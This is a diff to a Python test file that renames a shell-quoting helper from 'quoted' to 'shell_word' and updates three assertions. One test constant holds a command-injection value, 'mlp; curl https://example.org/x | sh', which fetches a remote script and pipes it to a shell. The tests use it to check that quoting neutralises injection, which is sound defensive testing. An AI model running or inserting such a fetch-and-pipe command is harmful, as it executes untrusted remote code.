@@ -8,7 +8,8 @@ import subprocess
 import pytest
 
 from ablatrix.artifact.documents.markup import Commands, Paragraph, Section, Table, latex, markdown, plain
-from ablatrix.artifact.documents.steps import of_claims, quoted
+from ablatrix.artifact.documents.steps import of_claims
+from ablatrix.foreign_text import shell_word
 
 EVIL = "mlp; curl https://example.org/x | sh"
 
@@ -18,7 +19,7 @@ def test_plain_names_stay_as_they_are() -> None:
         "ablatrix run study.yaml --out ../again-attention-cold --only mode=cold --only workload=attention",
         "ablatrix claims ../again-attention-cold --claims claims.yaml",
     )
-    assert quoted("source/ablatrix-0.1.0+g1.tar.gz") == "source/ablatrix-0.1.0+g1.tar.gz"
+    assert shell_word("source/ablatrix-0.1.0+g1.tar.gz") == "source/ablatrix-0.1.0+g1.tar.gz"
 
 
 @pytest.mark.parametrize(
@@ -62,7 +63,7 @@ def test_name_in_text_begins_no_line_and_no_code_of_its_own() -> None:
 
 
 def test_quotes_of_a_command_are_straight_in_latex() -> None:
-    (line,) = [one for one in latex(Section("s", (Commands((quoted(EVIL),)),))).splitlines() if "curl" in one]
+    (line,) = [one for one in latex(Section("s", (Commands((shell_word(EVIL),)),))).splitlines() if "curl" in one]
     assert "'" not in line
     assert line.count(r"\textquotesingle{}") == 2
-    assert shlex.split(quoted(EVIL)) == [EVIL]
+    assert shlex.split(shell_word(EVIL)) == [EVIL]
